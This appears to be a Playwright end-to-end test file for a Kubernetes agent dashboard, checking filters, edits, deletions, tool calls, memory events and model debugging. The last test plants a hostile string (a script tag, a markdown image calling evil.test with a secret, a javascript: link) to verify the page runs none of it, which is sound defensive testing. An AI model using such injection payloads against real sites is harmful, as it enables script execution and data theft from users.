// What the original dashboard got wrong, held to here so that ours does not.

import { NAMESPACE, expect, expectAccessible, ready, test } from "./fixtures.ts";
import { ask, create, createCalculatingAgent, read } from "./resources.ts";

const PATH = `/kube/apis/kaos.tools/v1alpha1/namespaces/${NAMESPACE}`;

test("a list is still there after a reload, with its filter", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/agents`);
  await ready(page);
  await page.getByRole("searchbox").first().fill("calculation");
  await expect(page.getByRole("row", { name: /coordinator/ })).toHaveCount(0);
  await expect(page).toHaveURL(/q=calculation/);
  await page.reload();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Agents");
  await expect(page.getByRole("row", { name: /analyst/ })).toHaveCount(1);
  await expect(page.getByRole("row", { name: /coordinator/ })).toHaveCount(0);
});

test("editing a description keeps the fields that the form does not show", async ({
  page,
  request,
}) => {
  const telemetry = { enabled: true };
  const labels = { team: "research" };
  await create(request, "Agent", "keeper", {
    modelAPI: "llm-proxy",
    model: "mock/instant",
    config: { description: "Before", telemetry },
    podSpec: { tolerations: [{ key: "gpu", operator: "Exists" }] },
    container: { resources: { limits: { memory: "1Gi" } } },
  });
  await request.patch(`${PATH}/agents/keeper`, {
    headers: { "content-type": "application/merge-patch+json" },
    data: { metadata: { labels } },
  });
  await page.goto(`/ns/${NAMESPACE}/agents/keeper/edit`);
  await ready(page);
  await page.getByLabel("Description").fill("After");
  await page.getByRole("button", { name: /^Save/ }).click();
  await expect(page).toHaveURL(/\/agents\/keeper$/);

  const { spec, metadata } = await read(request, "Agent", "keeper");
  expect(spec.config).toEqual({ description: "After", telemetry });
  expect(spec.podSpec).toEqual({ tolerations: [{ key: "gpu", operator: "Exists" }] });
  expect(spec.container).toEqual({ resources: { limits: { memory: "1Gi" } } });
  expect(metadata.labels).toEqual(labels);
});

test("the last object of a list disappears, too", async ({ page, request }) => {
  const made = await request.post("/kube/api/v1/namespaces", {
    data: { apiVersion: "v1", kind: "Namespace", metadata: { name: "lonely" } },
  });
  expect([201, 409]).toContain(made.status());
  const collection = "/kube/apis/kaos.tools/v1alpha1/namespaces/lonely/agents";
  const agent = { apiVersion: "kaos.tools/v1alpha1", kind: "Agent", metadata: { name: "only" } };
  const spec = { modelAPI: "nowhere", model: "mock/instant" };
  expect((await request.post(collection, { data: { ...agent, spec } })).status()).toBe(201);

  await page.goto("/ns/lonely/agents");
  await ready(page);
  const row = page.getByRole("row", { name: /only/ });
  await expect(row).toHaveCount(1);
  await expect(page.getByTestId("live-state")).toHaveAttribute("data-state", "live");
  expect((await request.delete(`${collection}/only`)).status()).toBe(200);
  await expect(row).toHaveCount(0);
  await expect(page.getByText("No agents in lonely")).toBeVisible();
});

test("a tool that reports an error is not shown as a success", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/mcpservers/calculator/tools/add`);
  await ready(page);
  await page.getByRole("button", { name: "Call", exact: true }).click();
  const fields = page.getByRole("spinbutton");
  await expect(fields.first()).toHaveJSProperty("validity.valid", false);
  await page.getByLabel(/^a\b/).fill("2");
  await page.getByLabel(/^b\b/).fill("2");
  await page.getByRole("button", { name: "Call", exact: true }).click();
  const result = page.getByRole("region", { name: "Result" });
  await expect(result).toContainText("Success");
  await expect(result).toContainText("4");
  await page.reload();
  await expect(page.locator(".call-list li")).not.toHaveCount(0);
});

test("a message is remembered once, and its events lead to their spans", async ({
  page,
  request,
}) => {
  await createCalculatingAgent(request, "rememberer");
  await ask(request, "rememberer", "What is 40 plus 2?");
  await page.goto(`/ns/${NAMESPACE}/agents/rememberer/memory`);
  await ready(page);
  const sessions = page.getByRole("navigation", { name: "Sessions" }).getByRole("link");
  await expect(sessions).toHaveCount(1);
  await sessions.click();
  await page.getByRole("link", { name: "Events" }).last().click();
  const rows = page.getByRole("region", { name: "Events" }).getByRole("row");
  await expect(rows.filter({ hasText: "user message" })).toHaveCount(1);
  await expect(rows.filter({ hasText: "tool result" })).toHaveCount(1);
  await expect(rows.filter({ hasText: "tool call" }).getByRole("link")).toHaveAttribute(
    "href",
    /\/traces\/[0-9a-f]{32}\?span=[0-9a-f]{16}/,
  );
  await expectAccessible(page);
});

test("a model is asked, and its tokens and first word are measured", async ({ page }) => {
  await page.goto(`/ns/${NAMESPACE}/modelapis/llm-proxy/debug`);
  await ready(page);
  await page.getByLabel("Model", { exact: true }).fill("mock/instant");
  await page.getByLabel("Prompt", { exact: true }).fill("Say something short.");
  await page.getByRole("button", { name: "Ask" }).click();
  const answer = page.getByRole("region", { name: "Answer of mock/instant" });
  await expect(answer).toContainText("Success");
  await expect(answer).toContainText(/Tokens out\s*[0-9]/);
  await expect(page).toHaveURL(/call=\d+/);
  await expectAccessible(page);
});

test("hostile words of an agent load nothing and run nothing", async ({ page, request }) => {
  const hostile =
    "<script>window.hacked = 1</script> ![a](http://evil.test/?q=secret) [b](javascript:alert(1))";
  await create(request, "Agent", "hostile", {
    modelAPI: "llm-proxy",
    model: "mock/instant",
    config: { description: hostile, instructions: hostile },
  });
  await page.goto(`/ns/${NAMESPACE}/agents/hostile`);
  await ready(page);
  await expect(page.getByText("window.hacked = 1").first()).toBeVisible();
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  await expect(page.locator('main a[href^="javascript:"]')).toHaveCount(0);
});
